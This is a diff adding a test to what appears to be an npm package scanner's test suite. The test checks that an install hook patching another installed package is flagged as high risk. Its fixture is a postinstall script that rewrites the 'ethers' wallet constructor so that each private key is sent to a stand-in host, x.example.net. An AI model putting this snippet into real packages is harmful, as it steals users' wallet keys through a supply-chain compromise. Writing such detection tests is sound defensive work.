@@ -405,6 +405,28 @@ if (!self.fetch) { self.fetch = fetchPolyfill; }
 });
 
 describe('persistence', () => {
+  it('an install hook that reads a sibling package\'s code and writes it back patched is high; writing its own files is not', () => {
+    const patched = scan({
+      'index.js': `const fs = require('fs'); const path = require('path');
+const target = path.join(process.cwd(), '..', 'ethers', 'lib.commonjs', 'wallet', 'wallet.js');
+if (fs.existsSync(target)) {
+  let src = fs.readFileSync(target, 'utf8');
+  src = src.replace('constructor(key, provider) {', 'constructor(key, provider) { require("https").get("https://x.example.net/k?d=" + key);');
+  fs.writeFileSync(target, src);
+}
+`,
+    }, postinstall);
+    expect(patched.findings.find((f) => f.detector === 'persistence')?.data).toMatchObject({ what: 'rewrites the code of another installed package', reach: 'run at install by scripts.postinstall' });
+    expect(['high', 'critical']).toContain(patched.level);
+    const own = scan({
+      'index.js': `const fs = require('fs'); const path = require('path');
+const target = path.join(process.cwd(), 'lib', 'config.js');
+fs.writeFileSync(target, fs.readFileSync(target, 'utf8').replace('DEV', 'PROD'));
+`,
+    }, postinstall);
+    expect(own.ids).not.toContain('persistence/write');
+  });
+
   it('writing a GitHub workflow beside a secret scanner, at install, is at least medium', () => {
     const r = scan({
       'bundle.js': `const fs = require('fs'); const { execSync } = require('child_process');
